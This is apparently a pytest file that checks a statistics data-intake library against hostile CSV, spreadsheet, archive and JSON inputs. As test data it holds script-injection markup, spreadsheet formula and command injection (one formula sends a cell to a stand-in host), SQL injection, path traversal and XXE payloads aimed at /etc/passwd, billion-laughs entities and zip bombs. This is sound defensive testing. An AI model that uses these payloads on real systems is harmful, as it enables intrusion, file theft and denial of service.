"""Files made to harm: nothing in them is run, nothing raises, and time and memory stay within bounds."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import time
import zipfile

import pytest

from lis_data.errors import LisError
from lis_data.intake import Choices, DescribedSeries, Description, Verdict, check, describe
from lis_data.intake.report import as_json, as_text
from lis_data.settings import ROOT
from tests.unit.intake.archives import TABLE, only, replaced, sheet, workbook, zipped

MB = 1_000_000
TEXTS = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "a formula": '=HYPERLINK("http://x.test/?"&A1,"click")',
    "a command": "+cmd|' /C calc'!A0",
    "SQL": "Humber'; drop table observations; --",
    "a path": "../../../../etc/passwd",
    "a Windows path": "\\\\server\\share\\x.dll",
    "a template": "{value.__class__} {0} %s ${HOME} $(reboot)",
    "controls": "Hum\x1b[2Jber\x07\x08",
    "right to left": "Hum\u202ereb\u2066\u200f",
    "NUL": "Hum\x00ber\x00x",
    "half a character": "Hum\udc80ber",
    "a long word": "x" * 900,
    "nested quotes": 'He said ""x"" and ""y""',
}


USUAL = {"area": "Humber", "period": "2018", "indicator": "Jobs", "value": "1"}


@pytest.mark.slow
@pytest.mark.parametrize("what", TEXTS)
@pytest.mark.parametrize("place", ["area", "period", "value", "header", "indicator", "title"])
def test_a_hostile_text_is_only_a_text(what: str, place: str) -> None:
    text = TEXTS[what].replace('"', '""') if what != "nested quotes" else TEXTS[what]
    cells = dict.fromkeys(("area", "period", "value", "header", "indicator", "title"), "") | {place: f'"{text}"'}
    lines = [
        cells["title"] or "A survey",
        "",
        f"Area,Year,Measure,{cells['header'] or 'Value'}",
        ",".join(cells[name] or usual for name, usual in USUAL.items()),
        "Dorset,2018,Jobs,2",
    ]
    verdict = check("\n".join(lines).encode("utf-8", "surrogateescape"), "x.csv")
    assert verdict.counts["observations"] >= 1
    report_text = as_text(verdict) + "".join(item.title for item in verdict.series)
    assert not {"\x1b", "\x00", "\x07", "\u202e", "\u2066"} & set(report_text)
    json.loads(as_json(verdict))


def test_a_file_name_is_only_a_name() -> None:
    verdict = check(b"Area,Year,Value\nHumber,2018,1\n", "../../\u202egnp.<b>'; drop table x")
    assert verdict.observations["indicator_id"].tolist() == ["gnp"]
    assert "\u202e" not in verdict.description.title


def test_a_description_is_displayed_without_what_cannot_be_seen() -> None:
    series = DescribedSeries("value", "Jo\u202ebs\x00")
    described = Description("Jo\u202ebs\x1b[31m", note="one\ntwo\x00", series=(series,))
    verdict = check(b"Area,Year,Value\nHumber,2018,1\n", "x.csv", description=described)
    assert (verdict.description.title, verdict.description.note) == ("Jobs[31m", "one\ntwo")
    assert verdict.description.series[0].title == "Jobs"


def test_quotes_in_quotes_are_one_cell() -> None:
    verdict = check(b'Area,Note,Year,Value\nHumber,"a ""b"" ""c, d""",2018,1\nDorset,"""",2018,2\n', "x.csv")
    assert verdict.observations["value"].tolist() == [1.0, 2.0]


def test_a_million_quotation_marks_are_a_long_cell() -> None:
    assert "is longer than" in only(check(b'Area,Year,Value\nHumber,2018,1\n"' + b'""' * 100_000 + b'",2018,1\n', "x"))


NESTED = zipped({"x.zip": zipped({"y.zip": zipped({"z.csv": b"0" * 10 * MB})})})
BOMBS = {
    "an archive in an archive in an archive": (NESTED, "holds another archive"),
    "a hundred thousand members": (zipped({f"{number}.csv": b"" for number in range(100_000)}), "too many members"),
    "a bomb inside an archive": (zipped({"x.zip": zipped({"y.csv": b"0" * 40 * MB})}), "the archive"),
    "a workbook of a thousand times its size": (replaced("xl/media/x.bin", b"0" * 40 * MB), "unpacks to"),
}


@pytest.mark.parametrize("what", BOMBS)
def test_a_bomb_is_refused_at_once(what: str) -> None:
    data, why = BOMBS[what]
    start = time.perf_counter()
    assert why in only(check(data, "x.zip"))
    assert time.perf_counter() - start < 5


def test_two_members_of_one_name_are_not_one_file() -> None:
    file = io.BytesIO()
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(file, "w") as archive:
        archive.writestr("x.csv", TABLE)
        archive.writestr("x.csv", TABLE)
    assert "has 2 files" in only(check(file.getvalue(), "x.zip"))


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
HEAD = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
ROWS = (
    '<sheetData><row><c t="inlineStr"><is><t>LEP</t></is></c><c><v>2018</v></c></row>'
    '<row><c t="inlineStr"><is><t>Humber</t></is></c><c><v>5</v></c></row></sheetData></worksheet>'
)
SHEET = "xl/worksheets/sheet1.xml"
CELLS = "".join(f"<c><v>{number * 7919 % 100_003}</v></c>" for number in range(1_100_000))
TRICKS = {
    "a billion laughs": (SHEET, f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>{HEAD}&l9;{ROWS}', "XML entities"),
    "a file of the server": (SHEET, f'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>{HEAD}{ROWS}', "XML ent"),
    "an outside document type": ("xl/styles.xml", '<!DOCTYPE x SYSTEM "http://x.test/x.dtd"><x/>', "XML entities"),
    "a million cells": (SHEET, sheet(f"<row>{CELLS}</row>"), "cells"),
    "huge styles": ("xl/styles.xml", "<styleSheet>" + "<a b='{}'/>" * MB + "</styleSheet>", "MB"),
    "a row far down": (SHEET, sheet('<row r="999999999"><c><v>1</v></c></row>'), "more than 2,000,000 rows"),
    "a column far out": (SHEET, sheet('<row><c r="XFD1"><v>1</v></c></row>'), "16,384 columns"),
    "a column that is none": (SHEET, sheet('<row><c r="ZZZZZZ1"><v>1</v></c></row>'), "is broken"),
    "a string that is not there": (SHEET, sheet('<row><c t="s"><v>99999999</v></c></row>'), "is broken"),
    "deep elements": (SHEET, sheet("<a>" * 100_000), "is broken"),
}


@pytest.mark.parametrize("what", TRICKS)
def test_a_trick_in_a_workbook_is_refused_in_time(what: str) -> None:
    part, content, why = TRICKS[what]
    start = time.perf_counter()
    assert why in only(check(replaced(part, content), "x.xlsx"))
    assert time.perf_counter() - start < 10


def test_a_workbook_that_says_it_is_a_million_rows_long_is_read_as_it_is() -> None:
    wrong = HEAD + '<dimension ref="A1:XFD1048576"/>' + ROWS
    start = time.perf_counter()
    assert check(replaced(SHEET, wrong), "x.xlsx").observations["value"].tolist() == [5.0]
    assert time.perf_counter() - start < 5


def test_many_different_strings_in_a_workbook_are_counted() -> None:
    strings = "".join(f"<si><t>{number}</t></si>" for number in range(1_100_000))
    start = time.perf_counter()
    assert "cells" in only(check(replaced("xl/sharedStrings.xml", f"<sst>{strings}</sst>"), "x.xlsx"))
    assert time.perf_counter() - start < 10


MEASURED = """
import resource, sys
from lis_data.intake import check
check(b"Area,Year,Value\\nHumber,2018,1\\n", "x")
data = {made}
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
verdict = check(data, "x")
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(verdict.problems[0].kind, (after - before) * 1024 / len(data))
"""
MAKINGS = [
    ("b'a,' * 50_000_000", "too-large", 0.05),
    ("b'x' * 60_000_000", "long-line", 0.3),
    ("b'a,' * 30_000_000", "too-many-columns", 0.5),
    ("b'Area,Year,Value\\nHumber,2018,' + b'9' * 60_000_000", "long-line", 0.5),
    ("b'Area,Year,Value\\nHumber,2018,' + b'1' + b'\\0' * 60_000_000", "long-line", 0.5),
    ("'Area,Year,Value\\n'.encode('utf-16') + 'Humber,2018,1\\n'.encode('utf-16-le') * 2_000_000", "encoding", 12),
    ("b'Area,Year,Value\\n' + b'\"' * 60_000_000", "long-line", 0.5),
]


@pytest.mark.slow
@pytest.mark.parametrize(("made", "kind", "most"), MAKINGS)
def test_memory_stays_near_the_size_of_the_file(made: str, kind: str, most: float) -> None:
    code = MEASURED.format(made=made)
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True, timeout=60
    )
    found, ratio = done.stdout.split()
    assert found == kind
    assert float(ratio) <= most, f"{ratio} times the file's size"


BAD_SIDE_FILES = {
    "deep": '{"series":' + "[" * 100_000 + "]" * 100_000 + "}",
    "huge": '{"areas": {' + ",".join(f'"{n}": "E37000001"' for n in range(200_000)) + "}}",
    "a list": "[1, 2]",
    "a number": "7",
    "a role of a wrong type": '{"tableSchema": {"columns": [{"titles": {"en": "x"}, "role": "area"}]}}',
    "columns of a wrong type": '{"tableSchema": {"columns": "area"}}',
    "a number for a title": '{"dc:title": 5}',
    "a title for a number": '{"description": {"decimals": "2"}}',
    "a series without an id": '{"series": [{"title": "x"}]}',
    "a series of a wrong type": '{"series": [{"indicator_id": "x", "title": "x", "additive": 1}]}',
    "too many series": json.dumps({"series": [{"indicator_id": f"s{n}", "title": "x"} for n in range(5000)]}),
    "an endless number": '{"description": {"decimals": ' + "9" * 10_000 + "}}",
    "an area of a wrong type": '{"areas": {"LCR": ["E37000020"]}}',
    "a long text": json.dumps({"description": {"note": "x" * 5000}}),
}


@pytest.mark.parametrize("what", BAD_SIDE_FILES)
def test_a_hostile_side_file_is_refused_in_words(what: str) -> None:
    start = time.perf_counter()
    with pytest.raises(LisError, match="side file"):
        describe.read(BAD_SIDE_FILES[what])
    assert time.perf_counter() - start < 2


def test_a_side_file_cannot_hold_half_characters_or_direction_marks() -> None:
    described, choices = describe.read('{"dc:title": "a\\ud800b\\u202ec", "areas": {"x\\udc00": ""}}')
    assert described.title == "a?bc"
    assert choices == Choices(areas=(("x?", ""),))


def test_a_workbook_of_formulas_gives_the_values_that_were_saved() -> None:
    data = workbook(["LEP", "2018"], ["Humber", '=WEBSERVICE("http://x.test")'], ["Dorset", 2])
    verdict: Verdict = check(data, "x.xlsx")
    assert verdict.observations["status"].tolist() == ["M", "A"]
